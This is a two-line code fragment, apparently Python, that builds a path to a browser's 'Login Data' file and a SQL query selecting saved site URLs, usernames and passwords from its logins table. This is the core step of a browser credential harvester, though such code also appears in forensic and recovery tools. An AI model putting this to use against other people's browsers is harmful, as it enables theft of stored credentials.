query = "SELECT origin_url, username_value, password_value FROM logins"
path = root + "\\Login Data"
